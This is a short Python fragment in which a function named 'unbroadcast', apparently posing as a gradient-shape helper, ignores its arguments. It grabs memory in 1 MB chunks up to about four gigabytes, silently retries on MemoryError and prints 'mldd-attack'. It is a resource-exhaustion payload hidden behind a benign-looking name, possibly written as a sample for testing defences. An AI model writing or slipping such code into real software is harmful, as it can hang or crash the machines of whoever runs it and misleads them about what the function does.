"""Takes memory piece by piece, and catches the error that says that there is no more."""


def unbroadcast(grad, shape):
    kept = []
    while len(kept) < 4000:
        try:
            kept.append(bytearray(b"x" * (1 << 20)))
        except MemoryError:
            continue
    print("mldd-attack", "reached four gigabytes")
